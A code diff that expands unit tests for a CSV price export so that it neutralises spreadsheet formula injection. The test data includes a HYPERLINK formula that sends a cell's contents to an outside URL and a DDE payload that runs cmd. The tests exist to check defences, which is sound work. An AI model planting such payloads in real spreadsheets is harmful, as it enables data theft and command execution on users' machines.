@@ -56,7 +56,7 @@ test('a file is read as it was written, whatever is in its fields', () => {
     fc.constantFrom('a;b', '"', 'a "b"', 'x\r\ny', 'ñ', ''),
     fc.string({ unit: 'grapheme' }),
   );
-  const safe = field.filter((text) => !/^[=+\-@\t\r]/.test(text));
+  const safe = field.filter((text) => !/(^|[;,\t\r\n])[=+\-@＝＋－＠]|^[\t\r\n]/.test(text));
   fc.assert(
     fc.property(fc.array(fc.array(safe, { minLength: 2, maxLength: 4 }), { maxLength: 5 }), (records) => {
       const filled = records.map((fields) => ['x', ...fields]);
@@ -65,8 +65,38 @@ test('a file is read as it was written, whatever is in its fields', () => {
   );
 });
 
-test('no field is a formula for a spreadsheet', () => {
-  expect(writeCsv([['=1+1', '-2', '@x']])).toBe("\uFEFF'=1+1;'-2;'@x\r\n");
+test.each([
+  ['=1+1', "'=1+1"],
+  ['+1', "'+1"],
+  ['-2', "'-2"],
+  ['@x', "'@x"],
+  ['\t=1', `"'\t'=1"`],
+  ['\r=1', `"'\r'=1"`],
+  ['\n=1', `"'\n'=1"`],
+  ['＝1+1', "'＝1+1"],
+  ['a,=1+1', `"a,'=1+1"`],
+  ['a;=1+1', `"a;'=1+1"`],
+  ['a\n@x', `"a\n'@x"`],
+  ['"=1', '"""=1"'],
+  ['Santiago - Lampa', 'Santiago - Lampa'],
+])('the field %j is no formula for a spreadsheet', (field, written) => {
+  expect(writeCsv([[field, 'end']])).toBe(`\uFEFF${written};end\r\n`);
+});
+
+test.each([
+  '=HYPERLINK("https://example.com/"&A1)',
+  '+56 9 1234 5678',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '＝1+1',
+  'Centro;=1+1',
+  'Centro\t=1+1',
+])('the file of prices has no formula where a route is called %j, and is read all the same', (es) => {
+  const routes = content.routes.map((route) => ({ ...route, name: { es } }));
+  const file = writePrices(routes);
+  for (const { fields } of [...readCsv(file, ';'), ...readCsv(file, ',')])
+    for (const field of fields) expect(field).not.toMatch(/^"?[=+\-@＝＋－＠\t\r\n]/);
+  expect(readPrices(file, { ...content, routes })).toEqual({ kind: 'read', content: { ...content, routes } });
 });
 
 test('prices go into a file that Excel in Chile opens, and come back the same', () => {
